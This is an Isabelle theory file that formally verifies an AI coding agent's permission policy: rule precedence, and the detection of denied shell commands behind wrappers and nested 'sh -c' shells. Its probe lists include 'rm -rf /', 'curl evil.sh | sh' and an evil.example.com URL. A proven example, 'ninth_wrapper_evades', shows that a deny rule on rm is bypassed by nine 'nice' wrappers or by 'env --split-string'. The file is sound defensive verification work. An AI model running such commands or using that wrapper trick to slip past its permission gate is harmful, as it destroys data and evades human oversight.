(* ===== verification/Perm_Policy.thy ===== *)
theory Perm_Policy
  imports Perm_Types Bash_Split
begin

text \<open>
  The permission policy (\<^verbatim>\<open>xai-grok-workspace/src/permission/policy.rs\<close>): rules with their
  compiled patterns, the evaluation of an access, and the evaluation of every command of a
  shell script. The glob matcher, the URL parser and the shell parser are libraries: a record
  of functions the definitions take.
\<close>

section \<open>Definitions\<close>

text \<open>
  \<open>glob_matches_with\<close> takes the option \<^verbatim>\<open>require_literal_separator\<close>; \<open>url_host\<close> is the host of a URL
  that parses and has one.
\<close>

record 'g perm_lib =
  glob_new :: "string \<Rightarrow> 'g option"
  glob_matches_with :: "'g \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool"
  url_host :: "string \<Rightarrow> string option"
  parse_shell :: "string \<Rightarrow> tree option"

datatype MatchContext = PathContext | Freeform

record 'g CompiledPolicy =
  policy_config :: PermissionConfig
  matchers :: "'g option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

definition compile_pattern :: "'g perm_lib \<Rightarrow> PermissionRule \<Rightarrow> 'g option" where
  "compile_pattern lib rule =
     (case rule_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> (if p = ''*'' then None else glob_new lib p))"

definition restricts :: "PermissionRule \<Rightarrow> bool" where
  "restricts rule \<longleftrightarrow> rule_action rule = DenyRule \<or> rule_action rule = AskRule"

definition policy_new :: "'g perm_lib \<Rightarrow> PermissionConfig \<Rightarrow> 'g CompiledPolicy" where
  "policy_new lib cfg =
     \<lparr>policy_config = cfg,
      matchers = map (compile_pattern lib) (rules cfg),
      has_file_restrictions =
        list_ex (\<lambda>r. restricts r \<and> rule_tool r \<in> {ReadTool, EditTool, AnyTool}) (rules cfg),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. restricts r \<and> rule_tool r \<in> {BashTool, AnyTool}) (rules cfg)\<rparr>"

fun tool_filter_matches :: "AccessKind \<Rightarrow> ToolFilter \<Rightarrow> bool" where
  "tool_filter_matches a AnyTool = True"
| "tool_filter_matches a BashTool = (case a of BashAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a EditTool = (case a of EditAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ReadTool = (case a of ReadAccess _ \<Rightarrow> True | GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a GrepTool = (case a of GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a McpTool = (case a of MCPToolAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a WebFetchTool = (case a of WebFetchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a WebSearchTool = (case a of WebSearchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition glob_matches :: "'g perm_lib \<Rightarrow> string \<Rightarrow> MatchContext \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches lib text ctx pat =
     (case pat of None \<Rightarrow> False | Some g \<Rightarrow> glob_matches_with lib g (ctx = PathContext) text)"

definition normalize_domain :: "string \<Rightarrow> string" where
  "normalize_domain raw =
     (let s = trim_end_pred (\<lambda>c. c = CHR ''.'') (trim_end_pred (\<lambda>c. c = CHR ''/'') (trim raw));
          s = (case strip_prefix s ''www.'' of Some t \<Rightarrow> t | None \<Rightarrow> s)
      in to_lowercase s)"

definition domain_matches :: "'g perm_lib \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches lib pattern url =
     (case url_host lib url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain host; normalized_pattern = normalize_domain pattern
           in domain = normalized_pattern \<or> ends_with domain (''.'' @ normalized_pattern)))"

definition pattern_matches :: "'g perm_lib \<Rightarrow> AccessKind \<Rightarrow> PermissionRule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "pattern_matches lib access rule matcher =
     (case rule_pattern rule of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          pattern = ''*''
          \<or> (case access of
               BashAccess cmd \<Rightarrow>
                 (let cmd = dropWhile is_whitespace cmd
                  in starts_with cmd pattern \<or> glob_matches lib cmd Freeform matcher)
             | EditAccess path \<Rightarrow> glob_matches lib path PathContext matcher
             | ReadAccess path \<Rightarrow>
                 (case path of Some p \<Rightarrow> glob_matches lib p PathContext matcher | None \<Rightarrow> False)
             | GrepAccess path _ \<Rightarrow>
                 (case path of Some p \<Rightarrow> glob_matches lib p PathContext matcher | None \<Rightarrow> False)
             | MCPToolAccess name _ \<Rightarrow> glob_matches lib name Freeform matcher
             | WebFetchAccess url \<Rightarrow>
                 (case rule_pattern_mode rule of
                    DomainMode \<Rightarrow> domain_matches lib pattern url
                  | GlobMode \<Rightarrow> glob_matches lib url Freeform matcher)
             | WebSearchAccess query \<Rightarrow> glob_matches lib query Freeform matcher \<or> starts_with query pattern))"

fun tool_label :: "ToolFilter \<Rightarrow> string" where
  "tool_label AnyTool = ''any tool''"
| "tool_label BashTool = ''bash''"
| "tool_label EditTool = ''edit''"
| "tool_label ReadTool = ''read''"
| "tool_label GrepTool = ''grep''"
| "tool_label McpTool = ''mcp''"
| "tool_label WebFetchTool = ''web_fetch''"
| "tool_label WebSearchTool = ''web_search''"

definition deny_reason :: "PermissionRule \<Rightarrow> string" where
  "deny_reason rule =
     ''Denied by permission policy: deny rule on '' @ tool_label (rule_tool rule) @
     (case rule_pattern rule of Some pattern \<Rightarrow> '' matching '' @ [dq] @ pattern @ [dq] | None \<Rightarrow> [])"

fun evaluate_loop :: "'g perm_lib \<Rightarrow> AccessKind \<Rightarrow> (PermissionRule \<times> 'g option) list \<Rightarrow> bool \<Rightarrow> bool
    \<Rightarrow> PolicyDecision option" where
  "evaluate_loop lib access [] matched_ask matched_allow =
     (if matched_ask then Some AskUser else if matched_allow then Some AllowAccess else None)"
| "evaluate_loop lib access ((rule, matcher) # rs) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (rule_tool rule) \<or> \<not> pattern_matches lib access rule matcher
      then evaluate_loop lib access rs matched_ask matched_allow
      else case rule_action rule of
             DenyRule \<Rightarrow> Some (Reject (deny_reason rule))
           | AskRule \<Rightarrow> evaluate_loop lib access rs True matched_allow
           | AllowRule \<Rightarrow> evaluate_loop lib access rs matched_ask True)"

definition evaluate_access :: "'g perm_lib \<Rightarrow> 'g CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> PolicyDecision option" where
  "evaluate_access lib pol access =
     evaluate_loop lib access (zip (rules (policy_config pol)) (matchers pol)) False False"

text \<open>\<^verbatim>\<open>escalate\<close>: an allow rule does not count here.\<close>

definition drop_allow :: "PolicyDecision option \<Rightarrow> PolicyDecision option" where
  "drop_allow d = (if d = Some AllowAccess then None else d)"

fun dash_c_operand :: "string list \<Rightarrow> string option" where
  "dash_c_operand [] = None"
| "dash_c_operand (w # rest) =
     (if w = ''--'' \<or> w = ''-'' then (case rest of [] \<Rightarrow> None | s # _ \<Rightarrow> Some s)
      else if \<not> starts_with w ''-'' then Some w
      else dash_c_operand rest)"

definition shell_dash_c_script :: "string list \<Rightarrow> string option" where
  "shell_dash_c_script ws =
     (if ws = [] \<or> command_base (hd ws) \<notin> set [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''] then None
      else case find_idx (\<lambda>w. starts_with w ''-'' \<and> \<not> starts_with w ''--'' \<and> CHR ''c'' \<in> set w) (drop 1 ws) of
             None \<Rightarrow> None
           | Some flag \<Rightarrow> dash_c_operand (drop (flag + 2) ws))"

definition command_forms :: "string list \<Rightarrow> string list list" where
  "command_forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words
      in raw_words # (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

definition check_form :: "'g perm_lib \<Rightarrow> 'g CompiledPolicy \<Rightarrow> (string \<Rightarrow> PolicyDecision option)
    \<Rightarrow> string list \<Rightarrow> PolicyDecision option \<Rightarrow> PolicyDecision option" where
  "check_form lib pol nested ws decision =
     (let decision = combine_decisions decision
            (drop_allow (evaluate_access lib pol (BashAccess (join_with '' '' ws))))
      in case shell_dash_c_script ws of
           Some inner \<Rightarrow> combine_decisions decision (nested inner)
         | None \<Rightarrow> decision)"

text \<open>The depth counts up to eight in the source; here the levels that are left count down.\<close>

primrec bash_command_segments :: "nat \<Rightarrow> 'g perm_lib \<Rightarrow> 'g CompiledPolicy \<Rightarrow> string \<Rightarrow> PolicyDecision option" where
  "bash_command_segments 0 lib pol cmd = Some AskUser"
| "bash_command_segments (Suc left) lib pol cmd =
     (case all_commands_from_script (parse_shell lib) cmd of
        None \<Rightarrow> Some AskUser
      | Some segments \<Rightarrow>
          fold (check_form lib pol (bash_command_segments left lib pol))
            (concat (map (\<lambda>parsed. command_forms (cmd_words parsed)) segments)) None)"

definition evaluate_bash_command_policy :: "'g perm_lib \<Rightarrow> 'g CompiledPolicy \<Rightarrow> string \<Rightarrow> PolicyDecision option" where
  "evaluate_bash_command_policy lib pol cmd =
     (if \<not> has_bash_command_restrictions pol then None else bash_command_segments 8 lib pol cmd)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "AccessKind list" where
  "bash_probes = map BashAccess [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "AccessKind list" where
  "mcp_probes = map (\<lambda>n. MCPToolAccess n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "AccessKind list" where
  "webfetch_probes = map WebFetchAccess
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "'g perm_lib \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_is_catchall lib rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches lib a rule (compile_pattern lib rule))
      in case rule_tool rule of
           BashTool \<Rightarrow> opens_all bash_probes
         | McpTool \<Rightarrow> opens_all mcp_probes
         | WebFetchTool \<Rightarrow> opens_all webfetch_probes
         | AnyTool \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
         | _ \<Rightarrow> False)"

section \<open>Evaluation of an access\<close>

definition applies :: "'g perm_lib \<Rightarrow> AccessKind \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "applies lib access r \<longleftrightarrow>
     tool_filter_matches access (rule_tool r) \<and> pattern_matches lib access r (compile_pattern lib r)"

definition applies_as :: "RuleAction \<Rightarrow> 'g perm_lib \<Rightarrow> AccessKind \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "applies_as act lib access r \<longleftrightarrow> applies lib access r \<and> rule_action r = act"

lemma evaluate_loop_spec:
  "evaluate_loop lib access (map (\<lambda>r. (r, compile_pattern lib r)) rs) ask allow =
     (case find (applies_as DenyRule lib access) rs of
        Some r \<Rightarrow> Some (Reject (deny_reason r))
      | None \<Rightarrow>
          (if ask \<or> list_ex (applies_as AskRule lib access) rs then Some AskUser
           else if allow \<or> list_ex (applies_as AllowRule lib access) rs then Some AllowAccess
           else None))"
proof (induction rs arbitrary: ask allow)
  case (Cons r rs)
  have a: "applies_as act lib access r \<longleftrightarrow> tool_filter_matches access (rule_tool r)
      \<and> pattern_matches lib access r (compile_pattern lib r) \<and> rule_action r = act" for act
    by (simp add: applies_as_def applies_def)
  show ?case by (cases "rule_action r") (simp_all add: Cons a split: option.split)
qed simp

lemma evaluate_access_spec:
  "evaluate_access lib (policy_new lib cfg) access =
     (case find (applies_as DenyRule lib access) (rules cfg) of
        Some r \<Rightarrow> Some (Reject (deny_reason r))
      | None \<Rightarrow>
          (if list_ex (applies_as AskRule lib access) (rules cfg) then Some AskUser
           else if list_ex (applies_as AllowRule lib access) (rules cfg) then Some AllowAccess
           else None))"
  using evaluate_loop_spec [of lib access "rules cfg" False False]
  by (simp add: evaluate_access_def policy_new_def zip_map2 zip_same_conv_map comp_def)

lemma find_applies:
  "find P xs = None \<longleftrightarrow> \<not> list_ex P xs" "find P xs = Some x \<Longrightarrow> x \<in> set xs \<and> P x"
  by (induction xs) (auto split: if_splits)

lemma evaluate_access_cases:
  "(\<exists>reason. evaluate_access lib (policy_new lib cfg) access = Some (Reject reason))
     \<longleftrightarrow> list_ex (applies_as DenyRule lib access) (rules cfg)"
  "evaluate_access lib (policy_new lib cfg) access = Some AskUser
     \<longleftrightarrow> \<not> list_ex (applies_as DenyRule lib access) (rules cfg) \<and> list_ex (applies_as AskRule lib access) (rules cfg)"
  "evaluate_access lib (policy_new lib cfg) access = Some AllowAccess
     \<longleftrightarrow> \<not> list_ex (applies_as DenyRule lib access) (rules cfg) \<and> \<not> list_ex (applies_as AskRule lib access) (rules cfg)
       \<and> list_ex (applies_as AllowRule lib access) (rules cfg)"
  "severity (evaluate_access lib (policy_new lib cfg) access) =
     (if list_ex (applies_as DenyRule lib access) (rules cfg) then 3
      else if list_ex (applies_as AskRule lib access) (rules cfg) then 2
      else if list_ex (applies_as AllowRule lib access) (rules cfg) then 1 else 0)"
  using find_applies(1) [of "applies_as DenyRule lib access" "rules cfg"]
  by (cases "find (applies_as DenyRule lib access) (rules cfg)"; simp add: evaluate_access_spec)+

lemma evaluate_access_escalates: "escalation (drop_allow (evaluate_access lib (policy_new lib cfg) access))"
  by (auto simp: evaluate_access_spec drop_allow_def split: option.split)

interpretation direct_gate: rule_gate "evaluate_access lib (policy_new lib cfg)" for lib cfg
  by unfold_locales (metis evaluate_access_escalates drop_allow_def rule_outcome_def)

text \<open>
  C24. Deny beats ask, ask beats allow, and the order of the rules does not matter: an access is
  refused exactly when some deny rule applies to it, otherwise it is asked about exactly when some ask
  rule applies, otherwise allowed exactly when some allow rule applies, and the outcome is as
  severe for every arrangement of the same rules.
\<close>

theorem evaluate_precedence:
  assumes "set rs = set (rules cfg)"
  shows "((\<exists>reason. evaluate_access lib (policy_new lib cfg) access = Some (Reject reason))
      \<longleftrightarrow> list_ex (applies_as DenyRule lib access) (rules cfg))
    \<and> (evaluate_access lib (policy_new lib cfg) access = Some AskUser
      \<longleftrightarrow> \<not> list_ex (applies_as DenyRule lib access) (rules cfg) \<and> list_ex (applies_as AskRule lib access) (rules cfg))
    \<and> (evaluate_access lib (policy_new lib cfg) access = Some AllowAccess
      \<longleftrightarrow> \<not> list_ex (applies_as DenyRule lib access) (rules cfg) \<and> \<not> list_ex (applies_as AskRule lib access) (rules cfg)
          \<and> list_ex (applies_as AllowRule lib access) (rules cfg))
    \<and> severity (evaluate_access lib (policy_new lib (cfg\<lparr>rules := rs\<rparr>)) access)
        = severity (evaluate_access lib (policy_new lib cfg) access)"
proof -
  have "list_ex P rs = list_ex P (rules cfg)" for P using assms by (simp add: list_ex_iff)
  then show ?thesis by (simp add: evaluate_access_cases)
qed

section \<open>Evaluation of scripts\<close>

definition runs_here :: "'g perm_lib \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> bool" where
  "runs_here lib script c \<longleftrightarrow>
     (\<exists>segments parsed wss. all_commands_from_script (parse_shell lib) script = Some segments
        \<and> parsed \<in> set segments \<and> cmd_words parsed = concat wss @ c
        \<and> list_all wrapper_words wss \<and> length wss \<le> 8
        \<and> c \<noteq> [] \<and> plain_head (hd c) \<and> \<not> is_wrapper_command c)"

text \<open>A script within a script, by the given number of shells that are run with \<^verbatim>\<open>-c\<close>.\<close>

inductive nested_script :: "'g perm_lib \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" for lib where
  itself: "nested_script lib 0 script script"
| within: "runs_here lib script c \<Longrightarrow> shell_dash_c_script c = Some inner \<Longrightarrow> nested_script lib k inner innermost
    \<Longrightarrow> nested_script lib (Suc k) script innermost"

lemma command_forms_wrapped:
  assumes "list_all wrapper_words wss" "length wss \<le> 8" "c \<noteq> []" "plain_head (hd c)" "\<not> is_wrapper_command c"
  shows "c \<in> set (command_forms (concat wss @ c))"
proof (cases wss)
  case (Cons ws wss')
  then have "length (concat wss) > 0" using assms(1) wrapper_words_head [of ws] by auto
  with unwrap_wrappers_words [OF assms] show ?thesis by (simp add: command_forms_def Let_def)
qed (simp add: command_forms_def Let_def)

lemma check_form_severity:
  "severity d \<le> severity (check_form lib pol nested ws d)"
  "severity (drop_allow (evaluate_access lib pol (BashAccess (join_with '' '' ws)))) \<le> severity (check_form lib pol nested ws d)"
  "shell_dash_c_script ws = Some inner \<Longrightarrow> severity (nested inner) \<le> severity (check_form lib pol nested ws d)"
  by (auto simp: check_form_def Let_def split: option.split)

lemma check_form_escalation:
  assumes "\<And>s. escalation (nested s)" "escalation d"
  shows "escalation (check_form lib (policy_new lib cfg) nested ws d)"
  using assms by (simp add: check_form_def Let_def escalation_combine evaluate_access_escalates split: option.split)

lemma segments_escalation: "escalation (bash_command_segments left lib (policy_new lib cfg) script)"
proof (induction left arbitrary: script)
  case (Suc left)
  show ?case
  proof (cases "all_commands_from_script (parse_shell lib) script")
    case (Some segments)
    have "escalation (fold (check_form lib (policy_new lib cfg) (bash_command_segments left lib (policy_new lib cfg)))
        (concat (map (\<lambda>parsed. command_forms (cmd_words parsed)) segments)) None)"
      by (rule fold_keeps, rule check_form_escalation [OF Suc]) simp_all
    with Some show ?thesis by simp
  qed simp
qed simp

interpretation command_gate: escalating_gate "evaluate_bash_command_policy lib (policy_new lib cfg)" for lib cfg
  by unfold_locales (simp add: evaluate_bash_command_policy_def segments_escalation)

lemma runs_here_form:
  assumes "runs_here lib script c" "\<And>d. k \<le> severity (check_form lib pol (bash_command_segments left lib pol) c d)"
  shows "k \<le> severity (bash_command_segments (Suc left) lib pol script)"
proof -
  from assms(1) obtain segments parsed wss where
    s: "all_commands_from_script (parse_shell lib) script = Some segments"
    and f: "parsed \<in> set segments" "cmd_words parsed = concat wss @ c" "list_all wrapper_words wss"
      "length wss \<le> 8" "c \<noteq> []" "plain_head (hd c)" "\<not> is_wrapper_command c"
    by (auto simp: runs_here_def)
  have "c \<in> set (command_forms (cmd_words parsed))"
    unfolding f(2) by (rule command_forms_wrapped [OF f(3-7)])
  with f(1) have "c \<in> set (concat (map (\<lambda>parsed. command_forms (cmd_words parsed)) segments))" by auto
  from fold_reaches [of severity "check_form lib pol (bash_command_segments left lib pol)", OF check_form_severity(1) this assms(2)] s
  show ?thesis by simp
qed

lemma nested_severity:
  assumes "nested_script lib k script inner" "k < n"
  shows "severity (bash_command_segments (n - k) lib pol inner) \<le> severity (bash_command_segments n lib pol script)"
  using assms
proof (induction arbitrary: n rule: nested_script.induct)
  case (within script c inner k innermost)
  then obtain m where n: "n = Suc m" by (cases n) auto
  show ?case unfolding n
    using within(4) [of m] within(5) n check_form_severity(3) [OF within(2)]
    by (intro runs_here_form [OF within(1)]) (fastforce intro: order_trans)
qed simp

text \<open>Below the last level everything is asked about.\<close>

lemma too_deep:
  assumes "nested_script lib k script inner" "n \<le> k"
  shows "2 \<le> severity (bash_command_segments n lib pol script)"
  using assms
proof (induction arbitrary: n rule: nested_script.induct)
  case (within script c inner k innermost)
  show ?case
  proof (cases n)
    case (Suc m)
    show ?thesis unfolding Suc
      using within(4) [of m] within(5) Suc check_form_severity(3) [OF within(2)]
      by (intro runs_here_form [OF within(1)]) (fastforce intro: order_trans)
  qed simp
qed simp

lemma deny_restricts:
  assumes "evaluate_access lib (policy_new lib cfg) (BashAccess s) = Some (Reject r)"
  shows "has_bash_command_restrictions (policy_new lib cfg)"
proof -
  have "list_ex (applies_as DenyRule lib (BashAccess s)) (rules cfg)"
    using assms by (simp add: evaluate_access_cases(1) [symmetric])
  moreover have "tool_filter_matches (BashAccess s) t \<Longrightarrow> t = BashTool \<or> t = AnyTool" for t by (cases t) auto
  ultimately show ?thesis
    by (fastforce simp: policy_new_def list_ex_iff applies_as_def applies_def restricts_def)
qed

text \<open>
  A command that a deny rule refuses is refused wherever it hides: as any command of the
  script, behind up to eight wrappers such as \<^verbatim>\<open>timeout\<close> and \<^verbatim>\<open>env\<close>, in scripts of shells run with
  \<^verbatim>\<open>-c\<close> within each other up to seven deep.
\<close>

theorem denied_command_found:
  assumes "nested_script lib k script inner" "k < 8" "runs_here lib inner c"
    and "evaluate_access lib (policy_new lib cfg) (BashAccess (join_with '' '' c)) = Some (Reject reason)"
  shows "\<exists>reason. evaluate_bash_command_policy lib (policy_new lib cfg) script = Some (Reject reason)"
proof -
  let ?pol = "policy_new lib cfg"
  obtain m where m: "8 - k = Suc m" using assms(2) by (cases "8 - k") auto
  have "3 \<le> severity (bash_command_segments (8 - k) lib ?pol inner)"
    unfolding m using check_form_severity(2) [of lib ?pol c] assms(4)
    by (intro runs_here_form [OF assms(3)]) (simp add: drop_allow_def)
  with nested_severity [OF assms(1,2), of ?pol]
  have "3 \<le> severity (bash_command_segments 8 lib ?pol script)" by simp
  then show ?thesis
    using escalation_severity(1) [OF segments_escalation [of 8 lib cfg script]] deny_restricts [OF assms(4)]
    by (simp add: evaluate_bash_command_policy_def)
qed

text \<open>
  What cannot be judged is not waved through: when there are rules that restrict commands, a
  script that the parser cannot split into plain commands, at any depth, or that nests
  shells eight deep, is asked about or refused. The evaluation never allows anything by itself.
\<close>

theorem undecided_script_asked:
  assumes "has_bash_command_restrictions (policy_new lib cfg)" "nested_script lib k script inner"
    and "all_commands_from_script (parse_shell lib) inner = None \<or> 8 \<le> k"
  shows "evaluate_bash_command_policy lib (policy_new lib cfg) script = Some AskUser
    \<or> (\<exists>reason. evaluate_bash_command_policy lib (policy_new lib cfg) script = Some (Reject reason))"
proof -
  let ?pol = "policy_new lib cfg"
  have "2 \<le> severity (bash_command_segments 8 lib ?pol script)"
  proof (cases "8 \<le> k")
    case True
    then show ?thesis by (rule too_deep [OF assms(2)])
  next
    case False
    then obtain m where "8 - k = Suc m" by (cases "8 - k") auto
    with assms(3) False nested_severity [OF assms(2), of 8 ?pol] show ?thesis by simp
  qed
  then show ?thesis
    using escalation_severity(2) [OF segments_escalation [of 8 lib cfg script]] segments_escalation [of 8 lib cfg script] assms(1)
    by (auto simp: evaluate_bash_command_policy_def escalation_def)
qed

section \<open>Examples\<close>

text \<open>
  A shell parser for scripts of one command: plain words between single blanks. Anything
  with a parenthesis does not parse.
\<close>

fun word_nodes :: "nat \<Rightarrow> string list \<Rightarrow> node list" where
  "word_nodes i [] = []"
| "word_nodes i (w # ws) = Node ''word'' True None i (i + length w) [] # word_nodes (i + length w + 1) ws"

definition blank_words :: "string \<Rightarrow> string list" where
  "blank_words s = split_pred (\<lambda>c. c = CHR '' '') s"

definition demo_tree :: "string \<Rightarrow> tree" where
  "demo_tree s =
     (case word_nodes 0 (blank_words s) of
        [] \<Rightarrow> \<lparr>root_node = Node ''program'' True None 0 0 [], tree_has_error = True\<rparr>
      | n # ns \<Rightarrow>
          \<lparr>root_node = Node ''program'' True None 0 (length s)
             [Node ''command'' True None 0 (length s)
               (Node ''command_name'' True (Some ''name'') (start_byte n) (end_byte n) [n] # ns)],
           tree_has_error = CHR ''('' \<in> set s\<rparr>)"

definition demo_perm_lib :: "string perm_lib" where
  "demo_perm_lib =
     \<lparr>glob_new = Some, glob_matches_with = (\<lambda>g sep s. s = g), url_host = (\<lambda>u. None),
      parse_shell = (\<lambda>s. Some (demo_tree s))\<rparr>"

definition rm_denied :: PermissionConfig where
  "rm_denied = permission_config_new
     [\<lparr>rule_action = DenyRule, rule_tool = BashTool, rule_pattern = Some ''rm'', rule_pattern_mode = GlobMode\<rparr>]"

definition nices :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "nices n s = concat (replicate n ''nice '') @ s"

text \<open>
  The bound on peeled wrappers fails open: under a rule that denies \<^verbatim>\<open>rm\<close>, the command is
  refused behind eight \<^verbatim>\<open>nice\<close> but gives no objection at all behind nine; and the command that
  \<^verbatim>\<open>env --split-string\<close> runs is not seen either.
\<close>

theorem ninth_wrapper_evades:
  "evaluate_bash_command_policy demo_perm_lib (policy_new demo_perm_lib rm_denied) (nices 8 ''rm -rf /'')
     = Some (Reject (deny_reason (hd (rules rm_denied))))
   \<and> evaluate_bash_command_policy demo_perm_lib (policy_new demo_perm_lib rm_denied) (nices 9 ''rm -rf /'') = None
   \<and> evaluate_bash_command_policy demo_perm_lib (policy_new demo_perm_lib rm_denied) ''env --split-string=rm -rf /'' = None"
  by code_simp

lemma nice_words_demo: "wrapper_words [''nice'']"
  by (rule nice_words [of "''nice''" "[]", simplified append_Nil2]) (code_simp, code_simp, rule no_flag)

lemma runs_here_demo: "runs_here demo_perm_lib ''nice rm -rf /'' [''rm'', ''-rf'', ''/'']"
proof -
  have "all_commands_from_script (parse_shell demo_perm_lib) ''nice rm -rf /''
      = Some [\<lparr>cmd_words = concat [[''nice'']] @ [''rm'', ''-rf'', ''/''], span_start = 0, span_end = 13\<rparr>]"
    by code_simp
  moreover have "list_all wrapper_words [[''nice'']]" by (simp add: nice_words_demo)
  moreover have "plain_head ''rm''" "\<not> is_wrapper_command [''rm'', ''-rf'', ''/'']" by code_simp+
  ultimately show ?thesis unfolding runs_here_def
    by (intro exI [of _ "[\<lparr>cmd_words = concat [[''nice'']] @ [''rm'', ''-rf'', ''/''], span_start = 0, span_end = 13\<rparr>]"]
        exI [of _ "\<lparr>cmd_words = concat [[''nice'']] @ [''rm'', ''-rf'', ''/''], span_start = 0, span_end = 13\<rparr>"]
        exI [of _ "[[''nice'']]"]) simp
qed

theorem evaluate_precedence_witness:
  "set (rules rm_denied) = set (rules rm_denied)
   \<and> (\<exists>reason. evaluate_access demo_perm_lib (policy_new demo_perm_lib rm_denied) (BashAccess ''rm -rf /'') = Some (Reject reason))"
proof -
  have "list_ex (applies_as DenyRule demo_perm_lib (BashAccess ''rm -rf /'')) (rules rm_denied)" by code_simp
  with evaluate_precedence [of "rules rm_denied" rm_denied demo_perm_lib "BashAccess ''rm -rf /''"] show ?thesis by simp
qed

theorem denied_command_found_witness:
  "\<exists>reason. evaluate_bash_command_policy demo_perm_lib (policy_new demo_perm_lib rm_denied) ''nice rm -rf /'' = Some (Reject reason)"
proof -
  have "evaluate_access demo_perm_lib (policy_new demo_perm_lib rm_denied) (BashAccess (join_with '' '' [''rm'', ''-rf'', ''/'']))
      = Some (Reject (deny_reason (hd (rules rm_denied))))"
    by code_simp
  from denied_command_found [OF itself _ runs_here_demo this] show ?thesis by simp
qed

theorem undecided_script_asked_witness:
  "all_commands_from_script (parse_shell demo_perm_lib) ''(rm'' = None
   \<and> (evaluate_bash_command_policy demo_perm_lib (policy_new demo_perm_lib rm_denied) ''(rm'' = Some AskUser
     \<or> (\<exists>reason. evaluate_bash_command_policy demo_perm_lib (policy_new demo_perm_lib rm_denied) ''(rm'' = Some (Reject reason)))"
proof -
  have "all_commands_from_script (parse_shell demo_perm_lib) ''(rm'' = None" by code_simp
  moreover have "has_bash_command_restrictions (policy_new demo_perm_lib rm_denied)" by code_simp
  ultimately show ?thesis using undecided_script_asked [OF _ itself] by simp
qed

text \<open>A rule that opens a whole dimension is recognised as a catch-all.\<close>

lemma universal_rule_is_catchall:
  assumes "rule_tool r \<in> {BashTool, AnyTool} \<and> (\<forall>cmd. pattern_matches lib (BashAccess cmd) r (compile_pattern lib r))
    \<or> rule_tool r \<in> {McpTool, AnyTool} \<and> (\<forall>n i. pattern_matches lib (MCPToolAccess n i) r (compile_pattern lib r))
    \<or> rule_tool r \<in> {WebFetchTool, AnyTool} \<and> (\<forall>u. pattern_matches lib (WebFetchAccess u) r (compile_pattern lib r))"
  shows "rule_is_catchall lib r"
  using assms by (auto simp: rule_is_catchall_def bash_probes_def mcp_probes_def webfetch_probes_def)

end
